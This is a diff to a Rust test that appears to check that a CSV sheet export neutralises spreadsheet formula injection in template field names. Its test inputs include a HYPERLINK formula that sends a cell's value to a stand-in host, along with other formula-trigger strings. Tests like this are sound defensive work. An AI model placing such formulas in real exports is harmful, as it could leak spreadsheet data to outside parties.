@@ -874,17 +874,31 @@ fn the_sheet_of_a_template_is_one_that_is_taken() {
     let server = Server::new(&TestDatabase::sqlite());
     let (company, token, template) = server.with_company("acme");
     let mut named = plain(1, "end");
-    named["fields"][0]["name"] = json!("language");
-    for template in [
-        template,
-        server.template(&company, &committee()),
-        server.template(&company, &named),
+    let mut formulas = Vec::new();
+    for name in [
+        "language",
+        "=HYPERLINK(\"http://example.com?\"&A1)",
+        "+1",
+        "-2+3",
+        "@SUM(A1)",
+        "'=1",
+        "a;=1",
     ] {
+        named["fields"][0]["name"] = json!(name);
+        formulas.push(server.template(&company, &named));
+    }
+    for template in [template, server.template(&company, &committee())]
+        .into_iter()
+        .chain(formulas)
+    {
         let answer = server.get(&format!("{PATH}/sheet?template_id={template}"), &token);
         assert_eq!(answer.status, 200);
         assert_eq!(answer.header("content-type"), "text/csv; charset=utf-8");
         let sheet = String::from_utf8(answer.body).expect("text");
         assert!(sheet.starts_with("\u{feff}workflow_name,language,"), "{sheet}");
+        for formula in [",=", ",\"=", ",+", ",-", ",@", ";="] {
+            assert!(!sheet.contains(formula), "{sheet}");
+        }
         let start = common(template);
         let dry = form(
             &server,
